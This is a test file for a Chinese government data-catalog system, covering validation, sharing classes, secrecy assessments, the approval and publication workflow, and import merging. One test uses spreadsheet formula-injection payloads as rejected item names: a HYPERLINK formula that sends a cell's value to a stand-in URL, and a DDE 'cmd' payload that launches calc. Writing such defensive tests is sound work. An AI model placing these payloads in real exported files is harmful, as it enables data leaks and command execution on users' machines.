import { describe, expect, it, test } from 'vitest';
import { catalog } from '../../lib/catalog/catalog.ts';
import { catalogIdOf, landedCatalogIdOf } from '../../lib/catalog/catalogId.ts';
import type { CatalogCommand, CatalogEvent, CatalogOrigin } from '../../lib/catalog/events.ts';
import { differsFrom, mergeImported, saidBy } from '../../lib/catalog/imported.ts';
import { liftCatalogEvent } from '../../lib/catalog/landed.ts';
import { objectionsIn } from '../../lib/catalog/objections.ts';
import { checkContent, isSecret, missingFields } from '../../lib/catalog/requirements.ts';
import { dataOf } from '../../lib/catalog/secrets.ts';
import type { CatalogContent, DataItem } from '../../lib/catalog/schema.ts';
import { classesOf, classesWithin, loosenessOf, stricter } from '../../lib/catalog/sharingClasses.ts';
import {
  assessments,
  conditional,
  people,
  revision,
  service,
  unconditional,
  withheld,
} from './caseSamples.ts';
import { by, given, type Happened, on, story } from './given.ts';

const { providerOfficer, providerChief, authorityOfficer } = people;
const monday = on('2026-03-02');
const text = expect.objectContaining({
  zh: expect.stringMatching(/\p{Script=Han}/u),
  en: expect.stringMatching(/[a-z]{3}/),
});
const faultsOf = (content: Partial<CatalogContent>) => checkContent({ ...conditional, ...content });
const fault = (path: string, code: string) => ({ path, code, message: text });

describe('what must hold whenever a catalog is written', () => {
  test('nothing is wrong with the samples', () => {
    for (const content of [conditional, unconditional, withheld, { name: '草稿' }])
      expect(checkContent(content)).toEqual([]);
  });

  test('no two items, and no two conditions, are called the same', () => {
    const dataItems = ['坐落', '面积', '坐落', '坐落'].map((name) => ({ name, type: 'string' as const }));
    expect(faultsOf({ dataItems })).toEqual([
      fault('/dataItems/2/name', 'duplicate'),
      fault('/dataItems/3/name', 'duplicate'),
    ]);
    expect(faultsOf({ dataItems })[0]?.message).toEqual({ zh: '“坐落”重复。', en: '"坐落" is there twice.' });
    const useConditions = ['c1', 'c2', 'c1'].map((id) => ({ id, text: `条件${id}` }));
    expect(faultsOf({ useConditions })).toEqual([fault('/useConditions/2/id', 'duplicate')]);
  });

  test('one item tells a record’s region and one its day', () => {
    const item = (name: string, places?: 'region' | 'date') => ({
      name,
      type: 'string' as const,
      ...(places ? { places } : {}),
    });
    expect(faultsOf({ dataItems: [item('区划', 'region'), item('日期', 'date'), item('坐落')] })).toEqual([]);
    const [twice, ...more] = faultsOf({
      dataItems: [item('区划', 'region'), item('日期', 'date'), item('旧区划', 'region')],
    });
    expect(more).toEqual([]);
    expect(twice).toEqual(fault('/dataItems/2/places', 'duplicate'));
    expect(twice?.message).toMatchObject({
      zh: expect.stringContaining('旧区划'),
      en: expect.stringContaining('旧区划'),
    });
  });

  test('R18.1 rules have the bounds they need, lists of values no value twice, and pseudonyms stand for single values', () => {
    const item = (more: object) => ({ name: '项', type: 'string' as const, ...more });
    const [one, two] = [{ value: '1' }, { value: '2' }];
    expect(
      faultsOf({
        dataItems: [
          item({
            values: [one, two],
            rules: [{ rule: 'inValues' }, { rule: 'length', max: 3 }, { rule: 'range', min: -1.5 }],
          }),
        ],
      }),
    ).toEqual([]);
    const wrong = (more: object) =>
      faultsOf({ dataItems: [item(more)] }).map(({ path, code }) => [path, code]);
    expect(wrong({ values: [one, two, one] })).toEqual([['/dataItems/0/values/2/value', 'duplicate']]);
    expect(wrong({ rules: [{ rule: 'inValues' }] })).toEqual([['/dataItems/0/values', 'required']]);
    for (const rule of [
      { rule: 'length' },
      { rule: 'length', min: 1.5 },
      { rule: 'length', min: -1 },
      { rule: 'length', min: 3, max: 2 },
      { rule: 'digits', max: 3 },
      { rule: 'range' },
    ])
      expect(wrong({ rules: [rule] })).toEqual([['/dataItems/0/rules/0', 'wrong_bounds']]);
    expect(wrong({ rules: [{ rule: 'digits' }, { rule: 'digits' }] })).toEqual([
      ['/dataItems/0/rules/1/rule', 'duplicate'],
    ]);
    expect(wrong({ type: 'object', treatment: 'pseudonymised' })).toEqual([
      ['/dataItems/0/treatment', 'not_treatable'],
    ]);
    expect(wrong({ type: 'object', treatment: 'masked' })).toEqual([]);
    const values = Array.from({ length: 401 }, (_, index) => ({ value: String(index) }));
    const many = [0, 1, 2, 3, 4].map((index) => ({ name: `项${index}`, type: 'string' as const, values }));
    expect(faultsOf({ dataItems: many }).map(({ path, code }) => [path, code])).toEqual([
      ['/dataItems', 'too_big'],
    ]);
  });

  test.each(['=HYPERLINK("http://x"&A2,"点")', '＋ＳＵＭ（A1）', "@SUM(1)*cmd|'/C calc'!A0"])(
    'R22.1 no item is named %j, for its name heads a column',
    (name) => {
      const dataItems = [
        { name: '-HBsAg(阴性)', type: 'string' as const },
        { name, type: 'string' as const },
      ];
      expect(faultsOf({ dataItems })).toEqual([fault('/dataItems/1/name', 'formula')]);
    },
  );

  test('no item is shared more freely than its catalog', () => {
    const dataItems = [
      { name: '坐落', type: 'string' as const, sharingClass: 'unconditional' as const },
      { name: '面积', type: 'string' as const, sharingClass: 'conditional' as const },
      { name: '证件号', type: 'string' as const, sharingClass: 'withheld' as const },
    ];
    const [looser, ...more] = faultsOf({ dataItems });
    expect(more).toEqual([]);
    expect(looser).toEqual(fault('/dataItems/0/sharingClass', 'looser_than_catalog'));
    expect(looser?.message.zh).toContain('坐落');
    expect(looser?.message.en).toContain('坐落');
    expect(faultsOf({ sharingClass: 'withheld', dataItems })).toHaveLength(2);
    const { sharingClass: _, ...unclassed } = conditional;
    expect(checkContent({ ...unclassed, dataItems })).toEqual([]);
  });

  test('general data has a level, core and important data have none', () => {
    expect(faultsOf({ classification: { grade: 'general' } })).toEqual([
      fault('/classification/level', 'level'),
    ]);
    expect(faultsOf({ classification: { grade: 'core', level: 1 } })).toEqual([
      fault('/classification/level', 'level'),
    ]);
    expect(faultsOf({ classification: { grade: 'important' } })).toEqual([]);
  });

  test('R15.5 the basis of what is withheld is one', () => {
    const minutes = { kind: 'law', title: '《局长办公会议纪要》', article: '第一条' } as const;
    expect(faultsOf({ legalBasis: minutes }).map(({ path }) => path)).toContainEqual(
      expect.stringMatching(/^\/legalBasis/),
    );
    expect(checkContent({ ...conditional, legalBasis: { text: '局长办公会议纪要' } })).toEqual([]);
  });
});

describe('what is missing for approval', () => {
  const missing = (content: CatalogContent & { provider?: string }) =>
    missingFields({ provider: 'provider', ...content }).map(({ path }) => path);

  test('R13.2 is told by name and article', () => {
    const { format: _, ...without } = conditional;
    const [fieldMissing] = missingFields({ provider: 'provider', ...without });
    expect(fieldMissing).toEqual(fault('/format', 'required'));
    expect(fieldMissing?.message.zh).toMatch(/^缺少.+（《政务数据共享条例》第十三条.*）。$/);
    expect(fieldMissing?.message.en).toMatch(/^The .+ is missing \(art\. 13\)\.$/);
  });

  test('R13.2 is what says nothing, and no choice of a list', () => {
    expect(missing({ ...conditional, updateFrequency: 'none' })).toEqual([]);
    const empty = { name: '无', format: '-', sharingScope: '无', permittedUses: '其他' };
    const useConditions = [{ id: 'c1', text: '无' }];
    expect(missing({ ...conditional, ...empty, useConditions })).toEqual([
      '/name',
      '/format',
      '/sharingScope',
      '/permittedUses',
      '/useConditions/0/text',
    ]);
  });

  test('R13.2 is what is absent, blank or an empty list', () => {
    expect(missing(conditional)).toEqual([]);
    expect(missing({ ...conditional, format: '' })).toEqual(['/format']);
    expect(missing({ ...conditional, dataItems: [] })).toContain('/dataItems');
    expect(missingFields({ ...conditional, provider: '' }).map(({ path }) => path)).toEqual(['/provider']);
  });

  test('R15.2 R15.3 follows every class that the catalog or an item of it has', () => {
    const { useConditions: _, permittedUses: __, withheldReason: ___, ...bare } = conditional;
    expect(missing(bare)).toEqual(expect.arrayContaining(['/permittedUses', '/withheldReason']));
    const plainItems = [{ name: '坐落', type: 'string' as const }];
    expect(missing({ ...bare, sharingClass: 'unconditional', dataItems: plainItems })).toEqual([]);
  });

  test('R15.5 a basis of old, a text only, is none; a law is cited with its article', () => {
    const { legalBasis: _, ...rest } = withheld;
    const landed = { ...rest, provider: 'provider', legalBasis: { text: '有关规定' } };
    expect(missingFields(landed).map(({ path }) => path)).toEqual(['/legalBasis']);
    const whole = { kind: 'law', title: '《刑事诉讼法》' } as const;
    expect(missing({ ...withheld, legalBasis: whole }).join()).toMatch(/^\/legalBasis/);
    expect(
      missing({ ...unconditional, dataItems: [{ name: '坐落', type: 'string' }], legalBasis: whole }),
    ).toEqual([]);
  });
});

describe('the sharing classes', () => {
  it('are ordered from the strictest to the freest', () => {
    expect((['withheld', 'conditional', 'unconditional'] as const).map(loosenessOf)).toEqual([0, 1, 2]);
    expect(stricter('conditional', 'withheld')).toBe('withheld');
    expect(stricter('withheld', 'conditional')).toBe('withheld');
    expect(stricter('unconditional', 'conditional')).toBe('conditional');
  });

  it('R14.1 of an item are its own, never looser than its catalog’s; a catalog without one is conditional', () => {
    const dataItems = [
      { name: '坐落', type: 'string' as const, sharingClass: 'unconditional' as const },
      { name: '面积', type: 'string' as const },
      { name: '证件号', type: 'string' as const, sharingClass: 'withheld' as const },
    ];
    expect([...classesOf({ name: '目录', dataItems, sharingClass: 'conditional' })]).toEqual([
      ['坐落', 'conditional'],
      ['面积', 'conditional'],
      ['证件号', 'withheld'],
    ]);
    expect(classesOf({ name: '目录', dataItems }).get('面积')).toBe('conditional');
    expect(classesOf({ name: '目录' }).size).toBe(0);
    expect(classesWithin({ name: '目录', dataItems, sharingClass: 'conditional' })).toEqual(
      new Set(['conditional', 'unconditional', 'withheld']),
    );
    expect(classesWithin({ name: '目录' })).toEqual(new Set());
  });
});

describe('a secret', () => {
  it('R3.1 R13.3 is one where any of the assessments concludes so', () => {
    expect(isSecret(assessments)).toBe(false);
    for (const name of ['secrecyRisk', 'personalInformationImpact'] as const)
      expect(isSecret({ ...assessments, [name]: { ...assessments[name], conclusion: 'secret' } })).toBe(true);
  });

  it('R3.1 is not catalogued where it is declared', () => {
    given(catalog)
      .when(
        { type: 'draft', id: 'k1', content: { ...conditional, secret: true } },
        by(providerOfficer, monday),
      )
      .then({ refused: 'secret', status: 422, article: 3, paths: ['/secret'] });
  });

  it('is other data only where name, summary or items are others', () => {
    expect(dataOf({ ...conditional, format: 'XLSX' })).toBe(dataOf(conditional));
    const items = conditional.dataItems?.map(({ name, ...item }) => ({ ...item, name }));
    expect(items && dataOf({ ...conditional, dataItems: items })).toBe(dataOf(conditional));
    const others = [{ name: '另一目录' }, { summary: '摘要' }, { dataItems: [] }];
    for (const other of others) expect(dataOf({ ...conditional, ...other })).not.toBe(dataOf(conditional));
  });
});

describe('what reads as an added formality', () => {
  const demand = '须经领导同意';
  test.each<[string, Partial<CatalogContent>]>([
    [
      '/useConditions/1/text',
      {
        useConditions: [
          { id: 'c1', text: '仅限核验' },
          { id: 'c2', text: demand },
        ],
      },
    ],
    ['/sharingScope', { sharingScope: demand }],
    ['/permittedUses', { permittedUses: demand }],
    ['/withheldReason', { withheldReason: demand }],
    ['/format', { format: demand }],
    ['/summary', { summary: '本数据须经局领导同意后方可提供。' }],
    [
      '/dataItems/0/description',
      { dataItems: [{ name: '坐落', type: 'string', description: '本数据须经局领导同意后方可提供。' }] },
    ],
    ['/useConditions/0/id', { useConditions: [{ id: demand, text: '仅限核验' }] }],
    ['/name', { name: `不动产登记信息（${demand}）` }],
    ['/hierarchy/subItem', { hierarchy: { class: '自然资源', item: '登记', subItem: demand } }],
    ['/classification/category/field', { classification: { category: { field: demand }, grade: 'core' } }],
    ['/sourceSystem/name', { sourceSystem: { name: `登记系统（${demand}）` } }],
    ['/contact/name', { contact: { name: `登记中心（${demand}）` } }],
    ['/matters/1', { matters: ['不动产登记', demand] }],
    ['/upkeep/collects/by', { upkeep: { collects: { by: `登记中心（${demand}）` } } }],
    ['/dataItems/0/name', { dataItems: [{ name: `坐落（${demand}）`, type: 'string' }] }],
    ['/dataItems/0/sourceField', { dataItems: [{ name: '坐落', type: 'string', sourceField: demand }] }],
    [
      '/dataItems/0/values/1/name',
      {
        dataItems: [{ name: '状态', type: 'string', values: [{ value: '0' }, { value: '1', name: demand }] }],
      },
    ],
  ])('R15.4 is told with its place %s', (path, content) => {
    expect(objectionsIn({ ...conditional, ...content })).toMatchObject([
      { path, formality: { code: 'leaderConsent' } },
    ]);
  });

  test('nothing does in the samples, nor in a draft', () => {
    for (const content of [conditional, unconditional, withheld, { name: '草稿' }])
      expect(objectionsIn(content)).toEqual([]);
  });

  test('R15.4 is not published without the reasons for each of its fields', () => {
    const content = { ...conditional, sharingScope: demand, permittedUses: demand };
    const submitted = story(catalog, [
      [{ type: 'draft', id: 'k1', content }, by(providerOfficer, monday)],
      [{ type: 'approve', assessments }, by(providerChief, monday)],
      [{ type: 'submit' }, by(providerOfficer, monday)],
    ]);
    const publish = (...paths: readonly string[]): CatalogCommand => ({
      type: 'publish',
      confirmations: paths.map((path) => ({ path, reasons: '法律另有规定' })),
    });
    const publishing = given(catalog, submitted);
    publishing
      .when({ type: 'publish' }, by(authorityOfficer, monday))
      .then({ refused: 'formality_unconfirmed', status: 422, paths: ['/sharingScope', '/permittedUses'] });
    publishing
      .when(publish('/sharingScope'), by(authorityOfficer, monday))
      .then({ refused: 'formality_unconfirmed', status: 422, paths: ['/permittedUses'] });
    publishing.when(publish('/sharingScope', '/permittedUses'), by(authorityOfficer, monday)).then([
      {
        type: 'published',
        confirmations: [{ path: '/sharingScope', reasons: '法律另有规定' }, { path: '/permittedUses' }],
      },
      { type: 'deadlineEnded', name: 'review', outcome: 'done' },
      { type: 'deadlineStarted', clock: { name: 'attachment' } },
    ]);
  });
});

describe('approval and submission', () => {
  const drafted = (content: CatalogContent = conditional) =>
    story(catalog, [[{ type: 'draft', id: 'k1', content }, by(providerOfficer, monday)]]);
  const approved = (content: CatalogContent = conditional) =>
    story(catalog, [[{ type: 'approve', assessments }, by(providerChief, monday)]], drafted(content));
  const submittedFor = (history: readonly Happened<CatalogEvent>[]) =>
    given(catalog, history).when({ type: 'submit' }, by(providerOfficer, monday));

  test('R13.3 an assessment is dated today or before', () => {
    const dated = (secrecy: string, impact: string): CatalogCommand => ({
      type: 'approve',
      assessments: {
        secrecyRisk: { ...assessments.secrecyRisk, date: secrecy },
        personalInformationImpact: { ...assessments.personalInformationImpact, date: impact },
      },
    });
    const approving = given(catalog, drafted());
    approving.when(dated('2026-03-02', '2026-03-02'), by(providerChief, monday)).then([{ type: 'approved' }]);
    approving
      .when(dated('2026-03-03', '2026-03-02'), by(providerChief, monday))
      .then({ refused: 'invalid_input', status: 400, paths: ['/secrecyRisk/date'] });
    approving
      .when(dated('2026-03-02', '2026-03-03'), by(providerChief, monday))
      .then({ refused: 'invalid_input', status: 400, paths: ['/personalInformationImpact/date'] });
  });

  test('R3.1 an assessment that finds a secret goes on record and approves nothing', () => {
    const secret = {
      ...assessments,
      secrecyRisk: { ...assessments.secrecyRisk, conclusion: 'secret' as const },
    };
    given(catalog, drafted())
      .when({ type: 'approve', assessments: secret }, by(providerChief, monday))
      .then([{ type: 'secretFound', assessments: secret, foundBy: 'p-chief' }]);
  });

  const summarised = { ...conditional, summary: '不动产登记簿记载的内容，含用途' };
  const [first, ...items] = conditional.dataItems ?? [];
  const firstName = first?.name ?? '';
  const changed = (item: Partial<DataItem>): Partial<CatalogContent> => ({
    dataItems: [...items, { type: 'string', ...first, name: firstName, ...item }],
  });
  const afterSecret = (content: Partial<CatalogContent>) => {
    const secret = {
      ...assessments,
      secrecyRisk: { ...assessments.secrecyRisk, conclusion: 'secret' as const },
    };
    return given(
      catalog,
      story(
        catalog,
        [
          [{ type: 'approve', assessments: secret }, by(providerChief, monday)],
          [{ type: 'change', content: { ...summarised, ...content } }, by(providerOfficer, monday)],
        ],
        drafted(summarised),
      ),
    ).when({ type: 'approve', assessments }, by(providerChief, monday));
  };
  test.each<[string, Partial<CatalogContent>]>([
    ['a full stop', { summary: `${summarised.summary}。` }],
    ['blanks and points', { summary: ` ${summarised.summary.replaceAll(/(?<=.)(?=.)/gu, ' ')} ！！` }],
    ['wide forms in its name', { name: `（必填）${conditional.name}．` }],
    ['the name of an item with a mark', changed({ name: `*${firstName}（必填）` })],
    ['an item’s length and its place', changed({ length: 99 })],
    ['a description that says nothing', changed({ description: '。' })],
  ])('R3.1 R13.3 what was found to be a secret stays one after %s', (_, content) => {
    afterSecret(content).then({ refused: 'secret', status: 422, article: 3 });
  });
  test.each<[string, Partial<CatalogContent>]>([
    ['its summary', { summary: '去除涉密内容后的摘要' }],
    ['its name', { name: `${conditional.name}（已脱密部分）` }],
    ['an item', changed({ name: '登记机构' })],
    ['an item left out', { dataItems: items }],
  ])('R13.3 what was found to be a secret is assessed anew after a change of %s', (_, content) => {
    afterSecret(content).then([{ type: 'approved' }]);
  });

  test('R13.2 what lacks something is not approved', () => {
    const { format: _, ...without } = conditional;
    given(catalog, drafted(without))
      .when({ type: 'approve', assessments }, by(providerChief, monday))
      .then({ refused: 'incomplete_catalog', status: 422, article: 13, paths: ['/format'] });
  });

  test.each(['api', 'verify'] as const)('R22.3 what is shared by %s needs its service', (method) => {
    const called = { ...conditional, sharingMethods: ['batch', method] as const };
    const history = approved({ ...called, sharingMethods: [...called.sharingMethods] });
    submittedFor(history).then({ refused: 'service_required', status: 422 });
    const served = story(
      catalog,
      [[{ type: 'register-service', service }, by(providerOfficer, monday)]],
      history,
    );
    submittedFor(served).then([{ type: 'deadlineStarted' }, { type: 'submitted' }]);
  });

  test('R22.3 the refusal names every method that needs it', () => {
    const history = approved({ ...conditional, sharingMethods: ['api', 'verify'] });
    const decision = catalog.decide(
      history.reduce<Parameters<typeof catalog.decide>[0]>(
        (state, { event, at }) => catalog.evolve(state, event, at, { org: 'provider', sub: 'p-officer' }),
        undefined,
      ),
      { type: 'submit' },
      by(providerOfficer, monday),
    );
    expect(decision).toMatchObject({
      refusal: {
        detail: {
          zh: expect.stringMatching(/服务接口、.*核验|接口.*、.*核验/),
          en: expect.stringMatching(/ and /),
        },
      },
    });
  });

  test('R16.1 R17.2 the review has its two days: of a first catalog and a tightening by the platform, of an update by the law', () => {
    const published = story(
      catalog,
      [
        [{ type: 'submit' }, by(providerOfficer, monday)],
        [{ type: 'publish' }, by(authorityOfficer, monday)],
      ],
      approved(unconditional),
    );
    const update = (trigger: 'duty' | 'other', content: CatalogContent) => {
      const revising: CatalogCommand = { type: 'revise', revision: { ...revision, trigger } };
      return story(
        catalog,
        [
          [revising, by(providerOfficer, monday)],
          [{ type: 'change', content }, by(providerOfficer, monday)],
          [{ type: 'approve', assessments }, by(providerChief, monday)],
        ],
        published,
      );
    };
    const term = (history: readonly Happened<CatalogEvent>[]) => {
      const events = story(catalog, [[{ type: 'submit' }, by(providerOfficer, monday)]], history).slice(
        history.length,
      );
      return events.flatMap(({ event }) => (event.type === 'deadlineStarted' ? [event.clock.term] : []));
    };
    expect(term(approved())).toEqual(['firstReview']);
    expect(term(update('other', conditional))).toEqual(['tighteningReview']);
    expect(term(update('duty', conditional))).toEqual(['R17.2']);
    expect(term(update('other', { ...unconditional, summary: '摘要' }))).toEqual(['R17.2']);
  });
});

describe('what an import finds decided by people', () => {
  const said = { name: '企业信息', format: 'CSV', dataItems: [{ name: '名称', type: 'string' as const }] };
  const origin: CatalogOrigin = { importId: 'i1', rows: [2], digest: 'd1', said: saidBy(said) };

  it('stays; what nobody touched follows the workbook', () => {
    const now = { ...said, format: 'XLSX', summary: '摘要' };
    expect(mergeImported({ content: said, origin }, now)).toEqual(now);
    const touched = { ...said, format: 'JSON', summary: '人工摘要' };
    expect(mergeImported({ content: touched, origin }, now)).toEqual({
      ...now,
      format: 'JSON',
      summary: '人工摘要',
    });
    expect(mergeImported({ content: { ...said, name: '改名' }, origin }, now).name).toBe('改名');
    expect(mergeImported({ content: said, origin }, { ...now, name: '企业名录' }).name).toBe('企业名录');
  });

  it('what the workbook no longer says goes, unless a person wrote it', () => {
    const { format: _, ...less } = said;
    expect(mergeImported({ content: said, origin }, less)).toEqual(less);
    expect(mergeImported({ content: { ...said, format: 'JSON' }, origin }, less)).toMatchObject({
      format: 'JSON',
    });
    // Taken out by a person, it does not come back.
    expect(mergeImported({ content: less, origin }, said)).not.toHaveProperty('format');
  });

  it('items that a person changed or added stay, those taken out stay out, others follow', () => {
    const item = (name: string, type: 'string' | 'integer' = 'string') => ({ name, type });
    const merged = (
      current: readonly ReturnType<typeof item>[],
      imported: readonly ReturnType<typeof item>[],
    ) =>
      mergeImported(
        { content: { ...said, dataItems: [...current] }, origin },
        { ...said, dataItems: [...imported] },
      ).dataItems;
    expect(merged([item('名称')], [item('名称', 'integer')])).toEqual([item('名称', 'integer')]);
    expect(merged([item('名称', 'integer')], [item('名称')])).toEqual([item('名称', 'integer')]);
    expect(merged([item('名称'), item('电话')], [item('名称'), item('地址')])).toEqual([
      item('名称'),
      item('电话'),
      item('地址'),
    ]);
    expect(merged([item('名称')], [item('地址')])).toEqual([item('地址')]);
    expect(merged([], [item('名称')])).toEqual([]);
  });

  it('where nothing is known of an earlier workbook all that stands there may be a person’s', () => {
    const { said: _, ...unknown } = origin;
    expect(mergeImported({ content: { name: '企业信息', format: 'JSON' }, origin: unknown }, said)).toEqual({
      ...said,
      format: 'JSON',
    });
  });

  it('is told field by field, in words', () => {
    const workbook: CatalogContent = {
      ...said,
      updateFrequency: 'daily',
      sharingMethods: ['api', 'batch'],
      openness: 'open',
      dataItems: [...said.dataItems, { name: '地址', type: 'string' }, { name: '电话', type: 'string' }],
    };
    expect(differsFrom(said, workbook)).toEqual([
      { field: 'updateFrequency', value: '每日' },
      { field: 'sharingMethods', value: expect.stringMatching(/^[^a-z]+、[^a-z]+$/) },
      { field: 'openness', value: expect.stringMatching(/^\p{Script=Han}+$/u) },
      { field: 'dataItems', value: '地址、电话' },
    ]);
    expect(differsFrom({ ...said, format: 'JSON' }, said)).toEqual([{ field: 'format', value: 'CSV' }]);
    expect(differsFrom(said, said)).toEqual([]);
    expect(differsFrom({ ...said, code: 'x' }, { ...said, code: 'y' })).toEqual([]);
    // In whatever order a person typed the properties of an item.
    const [name] = said.dataItems;
    const reordered = name ? [{ type: name.type, name: name.name }] : [];
    expect(differsFrom({ ...said, dataItems: reordered }, said)).toEqual([]);
  });
});

describe('a catalog of earlier versions', () => {
  const lift = (event: object, schema = 3) => liftCatalogEvent(event as { readonly type: string }, schema);

  it('keeps the text that a basis was', () => {
    const content = { name: '目录', legalBasis: '《统计法》' };
    const lifted = { content: { name: '目录', legalBasis: { text: '《统计法》' } } };
    expect(lift({ type: 'drafted', content, parties: {} })).toMatchObject(lifted);
    expect(lift({ type: 'changed', content })).toMatchObject(lifted);
    const kind = { name: '目录', legalBasis: { kind: 'law', title: '《统计法》' } };
    expect(lift({ type: 'changed', content: kind })).toMatchObject({ content: kind });
    expect(lift({ type: 'changed', content: { name: '目录' } })).toEqual({
      type: 'changed',
      content: { name: '目录' },
    });
  });

  it('keeps the texts that assessments were, with their files', () => {
    const assessed = (secrecyRisk: unknown, personalInformationImpact: unknown) =>
      lift({ type: 'approved', approvedBy: 'x', assessments: { secrecyRisk, personalInformationImpact } });
    expect(assessed('不涉密', { conclusion: '含个人信息', document: 'a1' })).toEqual({
      type: 'approved',
      approvedBy: 'x',
      assessments: {
        secrecyRisk: { text: '不涉密' },
        personalInformationImpact: { text: '含个人信息', document: 'a1' },
      },
    });
    expect(assessed({ conclusion: '不涉密' }, assessments.personalInformationImpact)).toMatchObject({
      assessments: {
        secrecyRisk: { text: '不涉密' },
        personalInformationImpact: assessments.personalInformationImpact,
      },
    });
    expect(assessed({ text: '不涉密' }, { text: '无' })).toMatchObject({
      assessments: { secrecyRisk: { text: '不涉密' }, personalInformationImpact: { text: '无' } },
    });
  });

  it('knows its owner by code and region, of the first schema alone', () => {
    const owner = { provider: 'p', region: '990100', level: 'city' };
    const event = { type: 'drafted', id: 'k1', content: { name: '目录' }, owner };
    const lifted = lift(event, 1);
    expect(lifted).toMatchObject({ parties: { provider: { org: 'p', region: '990100', level: 'city' } } });
    expect(lifted).not.toHaveProperty('owner');
    expect(lift(event, 2)).not.toHaveProperty('parties');
  });

  it('has other events as they are', () =>
    expect(lift({ type: 'submitted' }, 1)).toEqual({ type: 'submitted' }));

  it('has the id of its code alone; today the code of a department has one', () => {
    expect(landedCatalogIdOf('990100/0001')).toMatch(/^c[0-9a-f]{24}$/);
    expect(catalogIdOf('p', '990100/0001')).toMatch(/^c[0-9a-f]{24}$/);
    const ids = [catalogIdOf('p', 'x'), catalogIdOf('q', 'x'), catalogIdOf('p', 'y'), landedCatalogIdOf('x')];
    expect(new Set(ids).size).toBe(4);
    // Stored: it stays what it was.
    expect(landedCatalogIdOf('p/x')).toBe(catalogIdOf('p', 'x'));
  });
});
